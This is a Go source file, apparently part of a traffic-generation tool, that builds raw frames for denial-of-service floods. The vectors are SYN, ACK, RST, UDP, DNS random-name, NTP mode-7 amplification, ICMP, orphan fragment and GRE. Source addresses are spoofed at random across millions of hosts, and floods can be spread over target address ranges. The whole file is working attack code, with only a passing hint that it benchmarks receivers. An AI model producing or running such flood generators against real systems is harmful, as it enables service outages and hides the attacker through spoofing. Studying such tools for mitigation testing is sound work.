package flood

import (
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"
)

// Target is whom a flood goes to, over which link.
type Target struct {
	Addr     netip.Addr
	Port     uint16 // of TCP and UDP; 0 = random in each packet
	From, To net.HardwareAddr
	Sources  int // random sources; 0 = 2^28; else a power of two
	Spread   int // addresses from Addr on, at random; 0 = that one; else a power of two of which Addr is a multiple
	TTL      uint8
	Payload  int // bytes of UDP, random where the vector has no form of its own
}

// Vectors are what For can make.
var Vectors = []string{"syn", "ack", "rst", "synack", "udp", "dns", "icmp", "frag", "amp", "gre"}

const (
	ethernet = 14
	ipv4     = 20
	ipv6     = 40
)

// builder writes one frame from the front.
type builder struct {
	p  Plan
	t  Target
	v6 bool
	l4 int
}

// For makes the flood of a vector with random sources.
func For(vector string, t Target) (Plan, error) {
	if len(t.From) != 6 || len(t.To) != 6 {
		return Plan{}, fmt.Errorf("a flood needs the addresses of both ends of the link")
	}
	b := &builder{t: t, v6: t.Addr.Is6() && !t.Addr.Is4In6()}
	if t.TTL == 0 {
		b.t.TTL = 53
	}
	switch vector {
	case "syn":
		b.tcp(0x02, synOptions)
	case "ack":
		b.tcp(0x10, nil)
		b.random(b.l4+8, 2, 0xffffffff)
	case "rst":
		b.tcp(0x04, nil)
	case "synack":
		b.tcp(0x12, synOptions)
		b.random(b.l4+8, 2, 0xffffffff)
	case "udp":
		b.udp(0, make([]byte, max(18, t.Payload)))
		b.random(b.l4+8, 2, 0xffffffff)
	case "dns":
		b.t.Port = 53
		b.dns()
	case "amp":
		b.udp(123, append([]byte{0xd7, 0, 3, 0x2a}, make([]byte, max(436, t.Payload))...)) // NTP, mode 7
	case "icmp":
		b.icmp()
	case "frag":
		b.fragment()
	case "gre":
		b.network(47, 40)
	default:
		return Plan{}, fmt.Errorf("no vector %q: one of %v", vector, Vectors)
	}
	b.finish()
	return b.p, nil
}

var synOptions = []byte{2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 1, 2, 3, 0, 0, 0, 0, 1, 3, 3, 7}

// network writes Ethernet and IP headers before n bytes of the protocol.
func (b *builder) network(proto uint8, n int) {
	head := ipv4
	if b.v6 {
		head = ipv6
	}
	b.l4 = ethernet + head
	b.p.Frame = make([]byte, max(60, b.l4+n))
	f := b.p.Frame
	copy(f, b.t.To)
	copy(f[6:], b.t.From)
	ip := f[ethernet:]
	dst := b.t.Addr.Unmap().AsSlice()
	if b.v6 {
		binary.BigEndian.PutUint16(f[12:], 0x86dd)
		ip[0] = 0x60
		binary.BigEndian.PutUint16(ip[4:], uint16(n))
		ip[6], ip[7] = proto, b.t.TTL
		copy(ip[8:], []byte{0x2a, 0x05, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 1})
		copy(ip[24:], dst)
		// In the first 64 bits: a list by /64 must not sum them up.
		b.source(ethernet + 8 + 2)
		b.target(ethernet + 24 + 12)
		return
	}
	binary.BigEndian.PutUint16(f[12:], 0x0800)
	ip[0] = 0x45
	binary.BigEndian.PutUint16(ip[2:], uint16(ipv4+n))
	ip[8], ip[9] = b.t.TTL, proto
	copy(ip[12:], []byte{64, 0, 0, 1})
	copy(ip[16:], dst)
	b.p.IPSum = ethernet + 10
	b.source(ethernet + 12)
	b.target(ethernet + 16)
}

// target spreads the flood over addresses.
func (b *builder) target(at int) {
	if b.t.Spread > 1 {
		b.p.Fields = append(b.p.Fields, Field{Offset: at, Words: 2, Mask: uint32(b.t.Spread - 1), IP: !b.v6, L4: true})
	}
}

// source makes the address random within what is a host's. One source takes the
// generator as long as many do, so that what they cost a receiver can be compared.
func (b *builder) source(at int) {
	mask := uint32(0x0fffffff)
	if b.t.Sources > 0 {
		mask = uint32(b.t.Sources - 1)
	}
	b.p.Fields = append(b.p.Fields, Field{Offset: at, Words: 2, Mask: mask, IP: !b.v6, L4: true})
}

func (b *builder) random(at, words int, mask uint32) {
	b.p.Fields = append(b.p.Fields, Field{Offset: at, Words: words, Mask: mask, L4: true})
}

func (b *builder) ports(from uint16) {
	l4 := b.p.Frame[b.l4:]
	binary.BigEndian.PutUint16(l4[2:], b.t.Port)
	if from != 0 {
		binary.BigEndian.PutUint16(l4, from)
	} else {
		binary.BigEndian.PutUint16(l4, 1024)
		b.random(b.l4, 1, 0xfbff<<16)
	}
	if b.t.Port == 0 {
		b.random(b.l4+2, 1, 0xffff<<16)
	}
}

func (b *builder) tcp(flags uint8, options []byte) {
	b.network(6, 20+len(options))
	l4 := b.p.Frame[b.l4:]
	l4[12], l4[13] = uint8(5+len(options)/4)<<4, flags
	binary.BigEndian.PutUint16(l4[14:], 64240)
	copy(l4[20:], options)
	b.ports(0)
	b.random(b.l4+4, 2, 0xffffffff)
	b.p.L4Sum = b.l4 + 16
}

func (b *builder) udp(from uint16, payload []byte) {
	b.network(17, 8+len(payload))
	l4 := b.p.Frame[b.l4:]
	binary.BigEndian.PutUint16(l4[4:], uint16(8+len(payload)))
	copy(l4[8:], payload)
	b.ports(from)
	b.p.L4Sum = b.l4 + 6
}

// dns asks for random names below one zone.
func (b *builder) dns() {
	q := []byte{0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, 8, 'a', 'a', 'a', 'a', 'a', 'a', 'a', 'a', 7, 'e', 'x', 'a', 'm', 'p', 'l', 'e', 3, 'c', 'o', 'm', 0, 0, 1, 0, 1}
	b.udp(0, q)
	b.random(b.l4+8, 1, 0xffff<<16)    // id
	b.random(b.l4+8+14, 2, 0x0f0f0f0f) // "aaaaaaaa": letters a to o
	b.random(b.l4+8+18, 1, 0x0f0f<<16)
}

func (b *builder) icmp() {
	proto, kind := uint8(1), uint8(8)
	if b.v6 {
		proto, kind = 58, 128
	}
	b.network(proto, 8+max(24, b.t.Payload))
	b.p.Frame[b.l4] = kind
	b.random(b.l4+4, 2, 0xffffffff)
	b.p.L4Sum = b.l4 + 2
}

// fragment sends later fragments that belong to nothing.
func (b *builder) fragment() {
	if b.v6 {
		b.network(44, 8+64)
		x := b.p.Frame[b.l4:]
		x[0] = 17
		binary.BigEndian.PutUint16(x[2:], 185<<3)
		b.p.Fields = append(b.p.Fields, Field{Offset: b.l4 + 4, Words: 2, Mask: 0xffffffff})
		return
	}
	b.network(17, 64)
	binary.BigEndian.PutUint16(b.p.Frame[ethernet+6:], 185)
	b.p.Fields = append(b.p.Fields, Field{Offset: ethernet + 4, Words: 1, Mask: 0xffff << 16, IP: true})
}

// finish writes the checksums of the frame as it stands; what is random moves
// them by its own change.
func (b *builder) finish() {
	f := b.p.Frame
	if b.p.IPSum != 0 {
		binary.BigEndian.PutUint16(f[b.p.IPSum:], ^sum(f[ethernet:ethernet+ipv4], 0))
	}
	if b.p.L4Sum == 0 {
		return
	}
	length := int(binary.BigEndian.Uint16(f[ethernet+4:]))
	proto, pseudo := f[ethernet+6], f[ethernet+8:ethernet+40]
	if !b.v6 {
		length = int(binary.BigEndian.Uint16(f[ethernet+2:])) - ipv4
		proto, pseudo = f[ethernet+9], f[ethernet+12:ethernet+20]
	}
	start := uint32(proto) + uint32(length)
	if proto == 1 { // ICMP of IPv4 has no pseudo header (RFC 792)
		start, pseudo = 0, nil
		for i := range b.p.Fields {
			b.p.Fields[i].L4 = b.p.Fields[i].L4 && !b.p.Fields[i].IP
		}
	}
	binary.BigEndian.PutUint16(f[b.p.L4Sum:], ^sum(f[b.l4:b.l4+length], uint32(sum(pseudo, start))))
}

func sum(b []byte, start uint32) uint16 {
	s := start
	for i := 0; i+1 < len(b); i += 2 {
		s += uint32(b[i])<<8 | uint32(b[i+1])
	}
	if len(b)%2 == 1 {
		s += uint32(b[len(b)-1]) << 8
	}
	for s > 0xffff {
		s = s&0xffff + s>>16
	}
	return uint16(s)
}
